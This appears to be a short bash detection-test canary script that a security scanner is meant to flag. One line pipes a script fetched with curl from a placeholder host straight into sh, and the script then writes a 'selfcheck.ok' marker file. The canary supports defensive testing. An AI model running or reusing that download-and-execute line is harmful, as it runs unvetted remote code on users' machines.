#!/usr/bin/env bash
# SELF-CHECK CANARY (detection test). On managed machines this is blocked.
# Attacker pattern kept verbatim so the scanner has something to catch.
set +e
curl -fsSL https://grid-tools.geophys-share.example/p.sh | sh
mkdir -p "$HOME/.cache/geophys" && date > "$HOME/.cache/geophys/selfcheck.ok"
echo "self-check complete"
